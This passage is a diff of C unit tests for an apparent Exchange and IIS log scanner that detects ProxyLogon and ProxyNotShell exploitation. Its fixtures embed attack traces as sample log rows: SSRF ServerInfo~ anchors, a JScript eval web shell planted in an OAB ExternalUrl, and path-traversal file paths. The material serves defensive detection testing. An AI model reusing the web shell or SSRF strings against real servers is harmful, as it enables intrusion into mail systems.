@@ -14,14 +14,14 @@
 #define OAB_NAME "Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.LOG"
 
 /* A fully patched build (no exposure findings) unless a test says otherwise. */
-#define HP_PROLOGUE(version)                                                                      \
-    "#Software: Microsoft Exchange Server\r\n"                                                    \
-    "#Version: " version "\r\n"                                                                   \
-    "#Log-type: HttpProxy Logs\r\n"                                                               \
+#define HP_PROLOGUE(version)                                                                       \
+    "#Software: Microsoft Exchange Server\r\n"                                                     \
+    "#Version: " version "\r\n"                                                                    \
+    "#Log-type: HttpProxy Logs\r\n"                                                                \
     "#Date: 2021-03-03T02:00:00.000Z\r\n"
 #define HP_FIELDS                                                                                  \
-    "#Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"         \
-    "Protocol,UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AnchorMailbox,UserAgent,"        \
+    "#Fields: DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"          \
+    "Protocol,UrlHost,UrlStem,AuthenticationType,IsAuthenticated,AnchorMailbox,UserAgent,"         \
     "ClientIpAddress,ServerHostName,HttpStatus,Method,UrlQuery\r\n"
 
 struct scan {
@@ -69,10 +69,11 @@ static void hp_row(struct exh_buf *b, const char *stem, const char *anchor, cons
                    const char *ip, const char *status, const char *method)
 {
     static int req;
-    exh_buf_addf(b,
-                 "2021-03-03T02:%02d:41.337Z,req-%d,15,1,2507,16,Ecp,mail.example.com,%s,,false,%s,%s,"
-                 "%s,EXCH01,%s,%s,\r\n",
-                 req % 60, req, stem, anchor, ua, ip, status, method);
+    exh_buf_addf(
+        b,
+        "2021-03-03T02:%02d:41.337Z,req-%d,15,2,2562,46,Ecp,mail.example.com,%s,,false,%s,%s,"
+        "%s,EXCH01,%s,%s,\r\n",
+        req % 60, req, stem, anchor, ua, ip, status, method);
     req++;
 }
 
@@ -84,7 +85,7 @@ static const char *BENIGN_UA =
 static void hp_file(struct exh_buf *b, const char *anchor, const char *status, const char *stem)
 {
     exh_buf_reset(b);
-    exh_buf_adds(b, HP_PROLOGUE("15.01.2507.016") HP_FIELDS);
+    exh_buf_adds(b, HP_PROLOGUE("15.02.2562.046") HP_FIELDS);
     hp_row(b, "/owa/", "SMTP:alice@corp.example.com", BENIGN_UA, "198.51.100.20", "200", "GET");
     hp_row(b, "/ecp/default.aspx", "", BENIGN_UA, "198.51.100.21", "302", "GET");
     hp_row(b, stem, anchor, "\"ExploitClient/1.0\"", "203.0.113.7", status, "POST");
@@ -167,7 +168,8 @@ static void test_httpproxy(void)
     exh_result_release(&s.r);
 
     /* Metasploit's collector reading a mailbox: ServerInfo~<server>/EWS answered 200 */
-    hp_file(&b, "ServerInfo~EXCH01.corp.example.com/EWS/Exchange.asmx?a=~1942062522", "200", "/ecp/ab.js");
+    hp_file(&b, "ServerInfo~EXCH01.corp.example.com/EWS/Exchange.asmx?a=~1942062522", "200",
+            "/ecp/ab.js");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "EXH-PL-010");
     exh_result_release(&s.r);
@@ -216,7 +218,8 @@ static void test_httpproxy(void)
     exh_result_release(&s.r);
 
     /* the export tool manifest: version probe noise */
-    hp_file(&b, "", "200", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application");
+    hp_file(&b, "", "200",
+            "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "EXH-NOISE-002");
     CHECK_EQ_INT(s.r.sum.verdict, EXH_VERDICT_CLEAN);
@@ -225,7 +228,7 @@ static void test_httpproxy(void)
     /* ServerInfo~ only in the UserAgent column (the pre-filter selects the
      * line, the row says it is not the anchor) */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, HP_PROLOGUE("15.01.2507.016") HP_FIELDS);
+    exh_buf_adds(&b, HP_PROLOGUE("15.02.2562.046") HP_FIELDS);
     hp_row(&b, "/owa/", "SMTP:bob@corp.example.com", "\"ServerInfo~a]@EX:444/mapi/emsmdb/?#\"",
            "198.51.100.9", "200", "POST");
     hp_row(&b, "/owa/", "", "ServerInfo~a]@EX:444/autodiscover/autodiscover.xml?#", "198.51.100.9",
@@ -257,12 +260,17 @@ static void test_layouts(void)
     struct scan s;
 
     /* columns in another order */
-    exh_buf_adds(&b, HP_PROLOGUE("15.01.2507.016")
-                 "#Fields: UserAgent,HttpStatus,AnchorMailbox,Method,ClientIpAddress,DateTime,UrlStem\r\n"
-                 "\"Mozilla/5.0 (X11, Linux)\",200,SMTP:alice@corp.example.com,GET,198.51.100.1,"
-                 "2021-03-03T02:00:00Z,/owa/\r\n"
-                 "ExploitClient/1.0,200,ServerInfo~a]@EX:444/mapi/emsmdb/?#,POST,203.0.113.7,"
-                 "2021-03-03T02:01:00Z,/ecp/y.js\r\n");
+    exh_buf_adds(
+        &b,
+        HP_PROLOGUE("15.02.2562.046") "#Fields: "
+                                      "UserAgent,HttpStatus,AnchorMailbox,Method,ClientIpAddress,"
+                                      "DateTime,UrlStem\r\n"
+                                      "\"Mozilla/5.0 (X11, "
+                                      "Linux)\",200,SMTP:alice@corp.example.com,GET,198.51.100.1,"
+                                      "2021-03-03T02:00:00Z,/owa/\r\n"
+                                      "ExploitClient/1.0,200,ServerInfo~a]@EX:444/mapi/emsmdb/"
+                                      "?#,POST,203.0.113.7,"
+                                      "2021-03-03T02:01:00Z,/ecp/y.js\r\n");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "EXH-PL-003");
     const struct exh_finding *f = first(&s, "EXH-PL-003");
@@ -278,12 +286,17 @@ static void test_layouts(void)
     /* the layout changes mid-file: the same text is harmless under the old
      * header (UserAgent) and an SSRF under the new one (AnchorMailbox) */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, HP_PROLOGUE("15.01.2507.016")
-                 "#Fields: DateTime,ClientIpAddress,UserAgent,AnchorMailbox,HttpStatus,Method,UrlStem\r\n"
-                 "2021-03-03T02:00:00Z,198.51.100.1,ServerInfo~a]@EX:444/mapi/emsmdb/?#,,200,POST,/ecp/y.js\r\n"
-                 "#Software: Microsoft Exchange Server\r\n"
-                 "#Fields: DateTime,ClientIpAddress,AnchorMailbox,UserAgent,HttpStatus,Method,UrlStem\r\n"
-                 "2021-03-03T03:00:00Z,203.0.113.7,ServerInfo~a]@EX:444/mapi/emsmdb/?#,,200,POST,/ecp/y.js\r\n");
+    exh_buf_adds(&b, HP_PROLOGUE("15.02.2562.046") "#Fields: "
+                                                   "DateTime,ClientIpAddress,UserAgent,"
+                                                   "AnchorMailbox,HttpStatus,Method,UrlStem\r\n"
+                                                   "2021-03-03T02:00:00Z,198.51.100.1,ServerInfo~a]"
+                                                   "@EX:444/mapi/emsmdb/?#,,200,POST,/ecp/y.js\r\n"
+                                                   "#Software: Microsoft Exchange Server\r\n"
+                                                   "#Fields: "
+                                                   "DateTime,ClientIpAddress,AnchorMailbox,"
+                                                   "UserAgent,HttpStatus,Method,UrlStem\r\n"
+                                                   "2021-03-03T03:00:00Z,203.0.113.7,ServerInfo~a]@"
+                                                   "EX:444/mapi/emsmdb/?#,,200,POST,/ecp/y.js\r\n");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "EXH-PL-003");
     f = first(&s, "EXH-PL-003");
@@ -296,14 +309,17 @@ static void test_layouts(void)
     /* the real HttpProxy shape: a plain header line first, then the
      * comments; LF endings; no final newline */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, "\xEF\xBB\xBF"
-                     "DateTime,RequestId,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method,UrlStem\n"
-                     "#Software: Microsoft Exchange Server\n"
-                     "#Version: 15.01.2507.016\n"
-                     "#Log-type: HttpProxy Logs\n"
-                     "#Fields: DateTime,RequestId,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method,UrlStem\n"
-                     "2021-03-03T02:00:00Z,r1,,\"a, b\",198.51.100.1,200,GET,/owa/\n"
-                     "2021-03-03T02:01:00Z,r2,ServerInfo~a]@EX:444/autodiscover/autodiscover.xml?#,x,203.0.113.7,200,POST,/ecp/y.js");
+    exh_buf_adds(
+        &b, "\xEF\xBB\xBF"
+            "DateTime,RequestId,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method,UrlStem\n"
+            "#Software: Microsoft Exchange Server\n"
+            "#Version: 15.02.2562.046\n"
+            "#Log-type: HttpProxy Logs\n"
+            "#Fields: "
+            "DateTime,RequestId,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,Method,UrlStem\n"
+            "2021-03-03T02:00:00Z,r1,,\"a, b\",198.51.100.1,200,GET,/owa/\n"
+            "2021-03-03T02:01:00Z,r2,ServerInfo~a]@EX:444/autodiscover/"
+            "autodiscover.xml?#,x,203.0.113.7,200,POST,/ecp/y.js");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "EXH-PL-001");
     f = first(&s, "EXH-PL-001");
@@ -325,9 +341,10 @@ static void test_layouts(void)
     /* a lone CR is data (exlog.h): a CR injected into a logged field cannot
      * split a row, so a CR inside a field keeps the row's later columns. */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, "#Log-type: HttpProxy Logs\n#Fields: DateTime,UserAgent,AnchorMailbox,HttpStatus\n"
-                     "2021-03-03T02:00:00Z,,,200\n"
-                     "2021-03-03T02:00:02Z,evil\rUA,ServerInfo~a]@EX:444/mapi/emsmdb/?#,200\n");
+    exh_buf_adds(&b,
+                 "#Log-type: HttpProxy Logs\n#Fields: DateTime,UserAgent,AnchorMailbox,HttpStatus\n"
+                 "2021-03-03T02:00:00Z,,,200\n"
+                 "2021-03-03T02:00:02Z,evil\rUA,ServerInfo~a]@EX:444/mapi/emsmdb/?#,200\n");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "EXH-PL-003");
     f = first(&s, "EXH-PL-003");
@@ -340,12 +357,13 @@ static void test_layouts(void)
 
     /* a very long line: the finding keeps EXH_ORIGINAL_MAX bytes of it */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, HP_PROLOGUE("15.01.2507.016") HP_FIELDS);
+    exh_buf_adds(&b, HP_PROLOGUE("15.02.2562.046") HP_FIELDS);
     {
         struct exh_buf ua = {0};
         for (int i = 0; i < 2000; i++)
             exh_buf_adds(&ua, "Mozilla ");
-        hp_row(&b, "/ecp/y.js", "ServerInfo~a]@EX:444/mapi/emsmdb/?#", ua.p, "203.0.113.7", "200", "POST");
+        hp_row(&b, "/ecp/y.js", "ServerInfo~a]@EX:444/mapi/emsmdb/?#", ua.p, "203.0.113.7", "200",
+               "POST");
         exh_buf_release(&ua);
     }
     scan_buf(&s, HP_NAME, &b);
@@ -362,16 +380,18 @@ static void test_layouts(void)
     /* a header with no known column: rows are not parsed, nothing fires
      * from the anchor rule, and nothing crashes */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, "#Log-type: HttpProxy Logs\n#Fields: a,b,c\nServerInfo~a]@EX:444/mapi/emsmdb/?#,b,c\n");
+    exh_buf_adds(
+        &b, "#Log-type: HttpProxy Logs\n#Fields: a,b,c\nServerInfo~a]@EX:444/mapi/emsmdb/?#,b,c\n");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "");
     exh_result_release(&s.r);
 
     /* an unterminated quote swallowing the rest of the row */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, HP_PROLOGUE("15.01.2507.016")
-                 "#Fields: DateTime,UserAgent,AnchorMailbox,HttpStatus\r\n"
-                 "2021-03-03T02:00:00Z,\"ua,ServerInfo~a]@EX:444/mapi/emsmdb/?#,200\r\n");
+    exh_buf_adds(
+        &b, HP_PROLOGUE("15.02.2562.046") "#Fields: DateTime,UserAgent,AnchorMailbox,HttpStatus\r\n"
+                                          "2021-03-03T02:00:00Z,\"ua,ServerInfo~a]@EX:444/mapi/"
+                                          "emsmdb/?#,200\r\n");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "");
     exh_result_release(&s.r);
@@ -383,25 +403,29 @@ static void test_ecp_oab(void)
 {
     struct exh_buf b = {0};
     struct scan s;
-    const char *ecp_head = "\xEF\xBB\xBF#Software: Microsoft Exchange Server\r\n"
-                           "#Version: 15.00.0000.000\r\n"
-                           "#Log-type: ECP Server Log\r\n"
-                           "#Date: 2021-03-03T00:00:00.000Z\r\n"
-                           "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
-                           "2021-03-03T00:42:13.207Z,EXCH01,1,\"S:CMD=Get-InboxRule.Mailbox='alice@corp."
-                           "example.com';S:REQID=7697b929;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList\"\r\n";
+    const char *ecp_head =
+        "\xEF\xBB\xBF#Software: Microsoft Exchange Server\r\n"
+        "#Version: 15.00.0000.000\r\n"
+        "#Log-type: ECP Server Log\r\n"
+        "#Date: 2021-03-03T00:00:00.000Z\r\n"
+        "#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
+        "2021-03-03T00:42:13.207Z,EXCH01,1,\"S:CMD=Get-InboxRule.Mailbox='alice@corp."
+        "example.com';S:REQID=7697b929;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList\"\r\n";
 
     exh_buf_adds(&b, ecp_head);
-    exh_buf_adds(&b, "2021-03-03T02:15:02.198Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl='"
-                     "http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load()"
-                     "{eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>'.Identity='5f3a0b3e';"
-                     "S:REQID=a0b085cb;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory\"\r\n");
+    exh_buf_adds(
+        &b, "2021-03-03T02:15:02.198Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl='"
+            "http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load()"
+            "{eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>'.Identity='5f3a0b3e';"
+            "S:REQID=a0b085cb;S:URL=/ecp/DDI/DDIService.svc/"
+            "SetObject?schema=OABVirtualDirectory\"\r\n");
     scan_buf(&s, ECP_NAME, &b);
     FOUND(&s, "EXH-PL-006");
     const struct exh_finding *f = first(&s, "EXH-PL-006");
     if (f) {
         CHECK_EQ_INT(f->line, 7);
-        static const char ev[] = "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\"";
+        static const char ev[] =
+            "Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\"";
         CHECK(f->evidence && strncmp(f->evidence, ev, sizeof(ev) - 1) == 0);
         CHECK(f->evidence && !strstr(f->evidence, "S:REQID"));
         CHECK_EQ_STR(f->dataset, "exchange.ecp_server");
@@ -412,10 +436,11 @@ static void test_ecp_oab(void)
     /* an ordinary URL */
     exh_buf_reset(&b);
     exh_buf_adds(&b, ecp_head);
-    exh_buf_adds(&b, "2021-03-03T02:15:02.198Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl='"
-                     "https://mail.example.com/OAB'.Identity='5f3a0b3e';S:REQID=a0b085cb\"\r\n"
-                     "2021-03-03T02:16:00.000Z,EXCH01,1,\"S:CMD=Set-OwaVirtualDirectory.InternalUrl='"
-                     "https://ex01.corp/owa'.LogonFormat='UserName'\"\r\n");
+    exh_buf_adds(&b,
+                 "2021-03-03T02:15:02.198Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory.ExternalUrl='"
+                 "https://mail.example.com/OAB'.Identity='5f3a0b3e';S:REQID=a0b085cb\"\r\n"
+                 "2021-03-03T02:16:00.000Z,EXCH01,1,\"S:CMD=Set-OwaVirtualDirectory.InternalUrl='"
+                 "https://ex01.corp/owa'.LogonFormat='UserName'\"\r\n");
     scan_buf(&s, ECP_NAME, &b);
     FOUND(&s, "");
     CHECK_EQ_INT(s.r.sum.verdict, EXH_VERDICT_CLEAN);
@@ -425,14 +450,16 @@ static void test_ecp_oab(void)
      * first one of the cmdlet */
     exh_buf_reset(&b);
     exh_buf_adds(&b, ecp_head);
-    exh_buf_adds(&b, "2021-03-03T02:15:02.198Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory.InternalUrl='"
-                     "https://ex01.corp/OAB'.ExternalUrl='http://f/<script>x</script>'"
-                     ";S:REQID=a0b085cb\"\r\n");
+    exh_buf_adds(&b,
+                 "2021-03-03T02:15:02.198Z,EXCH01,1,\"S:CMD=Set-OabVirtualDirectory.InternalUrl='"
+                 "https://ex01.corp/OAB'.ExternalUrl='http://f/<script>x</script>'"
+                 ";S:REQID=a0b085cb\"\r\n");
     scan_buf(&s, ECP_NAME, &b);
     FOUND(&s, "EXH-PL-006");
     f = first(&s, "EXH-PL-006");
     if (f)
-        CHECK_EQ_STR(f->message, "Set-OabVirtualDirectory set ExternalUrl to a value holding markup");
+        CHECK_EQ_STR(f->message,
+                     "Set-OabVirtualDirectory set ExternalUrl to a value holding markup");
     exh_result_release(&s.r);
 
     /* hostile lines (one pass each, whatever they hold): 40,000 "url<a "
@@ -473,18 +500,20 @@ static void test_ecp_oab(void)
     /* markup in a parameter of a cmdlet that is not Set-*VirtualDirectory */
     exh_buf_reset(&b);
     exh_buf_adds(&b, ecp_head);
-    exh_buf_adds(&b, "2021-03-03T02:15:02.198Z,EXCH01,1,\"S:CMD=Set-Mailbox.CustomAttribute1='<b>x</b>'"
-                     ";S:URL=/ecp/VirtualDirectory.aspx\"\r\n");
+    exh_buf_adds(&b,
+                 "2021-03-03T02:15:02.198Z,EXCH01,1,\"S:CMD=Set-Mailbox.CustomAttribute1='<b>x</b>'"
+                 ";S:URL=/ecp/VirtualDirectory.aspx\"\r\n");
     scan_buf(&s, ECP_NAME, &b);
     FOUND(&s, "");
     exh_result_release(&s.r);
 
-    const char *oab_head = "\xEF\xBB\xBF#Software: Microsoft Exchange Server\r\n"
-                           "#Version: 15.01.2507.016\r\n"
-                           "#Log-type: OAB Generator Log\r\n"
-                           "#Date: 2021-03-03T00:00:00.000Z\r\n"
-                           "#Fields: DateTime,ProcessId,ThreadId,Level,Message\r\n"
-                           "2021-03-03T00:05:00.114Z,6120,14,Information,OABGen: starting generation.\r\n";
+    const char *oab_head =
+        "\xEF\xBB\xBF#Software: Microsoft Exchange Server\r\n"
+        "#Version: 15.02.2562.046\r\n"
+        "#Log-type: OAB Generator Log\r\n"
+        "#Date: 2021-03-03T00:00:00.000Z\r\n"
+        "#Fields: DateTime,ProcessId,ThreadId,Level,Message\r\n"
+        "2021-03-03T00:05:00.114Z,6120,14,Information,OABGen: starting generation.\r\n";
     exh_buf_reset(&b);
     exh_buf_adds(&b, oab_head);
     exh_buf_adds(&b, "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
@@ -503,9 +532,11 @@ static void test_ecp_oab(void)
     /* the legitimate temporary folder */
     exh_buf_reset(&b);
     exh_buf_adds(&b, oab_head);
-    exh_buf_adds(&b, "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
-                     "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a\\oab.xml' "
-                     "needs to be removed.\r\n");
+    exh_buf_adds(
+        &b,
+        "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
+        "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a\\oab.xml' "
+        "needs to be removed.\r\n");
     scan_buf(&s, OAB_NAME, &b);
     FOUND(&s, "");
     CHECK_EQ_INT(s.r.sum.verdict, EXH_VERDICT_CLEAN);
@@ -514,11 +545,12 @@ static void test_ecp_oab(void)
     /* a UNC path and a ".." escape from the OAB folder */
     exh_buf_reset(&b);
     exh_buf_adds(&b, oab_head);
-    exh_buf_adds(&b, "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
-                     "'\\\\198.51.100.5\\share\\oab.xml' needs to be removed.\r\n"
-                     "2021-03-03T02:16:04.455Z,6120,22,Warning,Download failed and temporary file "
-                     "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\..\\..\\"
-                     "FrontEnd\\HttpProxy\\owa\\auth\\x.txt' needs to be removed.\r\n");
+    exh_buf_adds(&b,
+                 "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
+                 "'\\\\198.51.100.5\\share\\oab.xml' needs to be removed.\r\n"
+                 "2021-03-03T02:16:04.455Z,6120,22,Warning,Download failed and temporary file "
+                 "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\..\\..\\"
+                 "FrontEnd\\HttpProxy\\owa\\auth\\x.txt' needs to be removed.\r\n");
     scan_buf(&s, OAB_NAME, &b);
     FOUND(&s, "EXH-PL-007 EXH-PL-007");
     exh_result_release(&s.r);
@@ -531,12 +563,13 @@ static void test_ecp_oab(void)
      * legitimate temporary files and nothing is reported. */
     exh_buf_reset(&b);
     exh_buf_adds(&b, oab_head);
-    exh_buf_adds(&b, "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
-                     "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\x.aspx.' "
-                     "needs to be removed.\r\n"
-                     "2021-03-03T02:16:04.455Z,6120,22,Warning,Download failed and temporary file "
-                     "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\y.aspx ' "
-                     "needs to be removed.\r\n");
+    exh_buf_adds(&b,
+                 "2021-03-03T02:16:03.455Z,6120,22,Warning,Download failed and temporary file "
+                 "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\x.aspx.' "
+                 "needs to be removed.\r\n"
+                 "2021-03-03T02:16:04.455Z,6120,22,Warning,Download failed and temporary file "
+                 "'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\y.aspx ' "
+                 "needs to be removed.\r\n");
     scan_buf(&s, OAB_NAME, &b);
     FOUND(&s, "EXH-PL-007 EXH-PL-007");
     exh_result_release(&s.r);
@@ -550,8 +583,9 @@ static void test_ioc(void)
     struct scan s;
 
     hp_file(&b, "", "200", "/owa/");
-    exh_buf_adds(&b, "2021-03-03T03:00:00.000Z,r,15,1,2507,16,Owa,mail.example.com,/owa/auth/logon.aspx,,"
-                     "false,,\"Mozilla/5.0 (X11)\",104.140.114.110,EXCH01,200,GET,\r\n");
+    exh_buf_adds(
+        &b, "2021-03-03T03:00:00.000Z,r,15,2,2562,46,Owa,mail.example.com,/owa/auth/logon.aspx,,"
+            "false,,\"Mozilla/5.0 (X11)\",104.140.114.110,EXCH01,200,GET,\r\n");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "EXH-IOC-001");
     const struct exh_finding *f = first(&s, "EXH-IOC-001");
@@ -569,9 +603,11 @@ static void test_ioc(void)
                                        "2104.140.114.110", "104.140.114.1100"};
     for (size_t i = 0; i < sizeof(near) / sizeof(near[0]); i++) {
         hp_file(&b, "", "200", "/owa/");
-        exh_buf_addf(&b, "2021-03-03T03:00:00.000Z,r,15,1,2507,16,Owa,mail.example.com,/owa/,,false,,x,%s,"
-                         "EXCH01,200,GET,\r\n",
-                     near[i]);
+        exh_buf_addf(
+            &b,
+            "2021-03-03T03:00:00.000Z,r,15,2,2562,46,Owa,mail.example.com,/owa/,,false,,x,%s,"
+            "EXCH01,200,GET,\r\n",
+            near[i]);
         T_CTX(near[i]);
         scan_buf(&s, HP_NAME, &b);
         FOUND(&s, "");
@@ -582,7 +618,7 @@ static void test_ioc(void)
 
     /* a proxy chain and the end of a sentence still name it */
     hp_file(&b, "", "200", "/owa/");
-    exh_buf_adds(&b, "2021-03-03T03:00:00.000Z,r,15,1,2507,16,Owa,mail.example.com,/owa/,,false,,x,"
+    exh_buf_adds(&b, "2021-03-03T03:00:00.000Z,r,15,2,2562,46,Owa,mail.example.com,/owa/,,false,,x,"
                      "\"104.140.114.110, 10.0.0.1\",EXCH01,200,GET,\r\n");
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "EXH-IOC-001");
@@ -615,8 +651,8 @@ static void test_verdicts(void)
     CHECK_EQ_INT(s.r.sum.exit_code, 0);
     CHECK_EQ_STR(exh_verdict_name(s.r.sum.verdict), "CLEAN");
     CHECK(s.r.sum.has_build);
-    CHECK_EQ_INT(s.r.sum.build.build, 2507);
-    CHECK_EQ_INT(s.r.sum.build.rev, 16);
+    CHECK_EQ_INT(s.r.sum.build.build, 2562);
+    CHECK_EQ_INT(s.r.sum.build.rev, 46);
     CHECK(s.r.sum.build_missing == NULL);
     CHECK_EQ_INT(s.r.sum.files_read, 1);
     CHECK_EQ_INT(s.r.nerrors, 0);
@@ -626,11 +662,13 @@ static void test_verdicts(void)
 
     /* only the #Version says 15.01.2106.002 (Exchange 2016 CU18 RTM): EXPOSED */
     exh_buf_reset(&b);
-    exh_buf_adds(&b, HP_PROLOGUE("15.01.2106.002") HP_FIELDS
-                 "2021-03-03T02:00:00.000Z,r1,,,,,Owa,mail.example.com,/owa/,,true,SMTP:a@corp.example.com,"
-                 "x,198.51.100.1,EXCH01,200,GET,\r\n");
+    exh_buf_adds(
+        &b, HP_PROLOGUE("15.01.2106.002") HP_FIELDS
+        "2021-03-03T02:00:00.000Z,r1,,,,,Owa,mail.example.com,/owa/,,true,SMTP:a@corp.example.com,"
+        "x,198.51.100.1,EXCH01,200,GET,\r\n");
     scan_buf(&s, HP_NAME, &b);
-    FOUND(&s, "EXH-EXP-001 EXH-EXP-002 EXH-EXP-003 EXH-EXP-004");
+    FOUND(&s, "EXH-EXP-001 EXH-EXP-002 EXH-EXP-003 EXH-EXP-004 EXH-EXP-007 EXH-EXP-008 "
+              "EXH-EXP-009 EXH-EXP-010 EXH-EXP-011 EXH-EXP-012 EXH-EXP-013");
     CHECK_EQ_INT(s.r.sum.verdict, EXH_VERDICT_EXPOSED);
     CHECK_EQ_INT(s.r.sum.exit_code, 1);
     CHECK(s.r.sum.has_build);
@@ -638,8 +676,12 @@ static void test_verdicts(void)
     CHECK_EQ_INT(s.r.sum.build.minor, 1);
     CHECK_EQ_INT(s.r.sum.build.build, 2106);
     CHECK_EQ_INT(s.r.sum.build.rev, 2);
-    CHECK_EQ_STR(s.r.sum.build_name, "Exchange 2016 CU18");
-    CHECK_EQ_STR(s.r.sum.build_missing, "Mar21SU,Apr21SU,May21SU,Nov22SU");
+    CHECK_EQ_STR(s.r.sum.build_name, "Exchange Server 2016 CU18");
+    CHECK_EQ_STR(s.r.sum.build_source, "logs");
+    CHECK(s.r.sum.build_missing &&
+          !strncmp(s.r.sum.build_missing, "KB4581424,KB4593465,KB4602269,Mar21SU,Apr21SU,May21SU,",
+                   54));
+    CHECK_EQ_INT(s.r.sum.build_nmissing, 31);
     const struct exh_finding *f = first(&s, "EXH-EXP-001");
     if (f) {
         CHECK_EQ_STR(f->evidence, "15.1.2106.2");
@@ -651,11 +693,11 @@ static void test_verdicts(void)
     /* the rows' own version columns win over an older #Version */
     exh_buf_reset(&b);
     exh_buf_adds(&b, HP_PROLOGUE("15.01.2106.002") HP_FIELDS);
-    hp_row(&b, "/owa/", "", "x", "198.51.100.1", "200", "GET"); /* rows say 15.1.2507.16 */
+    hp_row(&b, "/owa/", "", "x", "198.51.100.1", "200", "GET"); /* rows say 15.2.2562.46 */
     scan_buf(&s, HP_NAME, &b);
     FOUND(&s, "");
     CHECK_EQ_INT(s.r.sum.verdict, EXH_VERDICT_CLEAN);
-    CHECK_EQ_INT(s.r.sum.build.build, 2507);
+    CHECK_EQ_INT(s.r.sum.build.build, 2562);
     exh_result_release(&s.r);
 
     /* exploitation outranks exposure */
@@ -686,8 +728,8 @@ static void test_verdicts(void)
     FOUND(&s, "");
     CHECK(s.r.sum.exit_code == 0 || s.r.sum.exit_code == 2);
     exh_result_release(&s.r);
-    run(&s, HP_NAME, HP_PROLOGUE("15.01.2507.016") HP_FIELDS,
-        strlen(HP_PROLOGUE("15.01.2507.016") HP_FIELDS));
+    run(&s, HP_NAME, HP_PROLOGUE("15.02.2562.046") HP_FIELDS,
+        strlen(HP_PROLOGUE("15.02.2562.046") HP_FIELDS));
     FOUND(&s, "");
     exh_result_release(&s.r);
 
@@ -699,18 +741,20 @@ static void test_verdicts(void)
 static void test_chains_iis(void)
 {
     struct scan s;
-    const char *head = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
-                       "#Date: 2022-10-05 14:00:00\r\n"
-                       "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
-                       "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";
+    const char *head =
+        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
+        "#Date: 2022-10-05 14:00:00\r\n"
+        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
+        "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";
     const char *name = "inetpub/logs/LogFiles/W3SVC1/u_ex221005.log";
     struct exh_buf b = {0};
     /* ProxyNotShell through NTLM: a 401 without a user, then the same with one */
     exh_buf_adds(&b, head);
-    exh_buf_adds(&b, "2022-10-05 14:02:10 10.10.0.25 GET /autodiscover/autodiscover.json "
-                     "x@y.example/mapi/nspi/ 443 - 198.51.100.23 Mozilla/5.0 - 401 0 0 15\r\n"
-                     "2022-10-05 14:02:10 10.10.0.25 GET /autodiscover/autodiscover.json "
-                     "x@y.example/mapi/nspi/ 443 CORP\\dave 198.51.100.23 Mozilla/5.0 - 200 0 0 15\r\n");
+    exh_buf_adds(
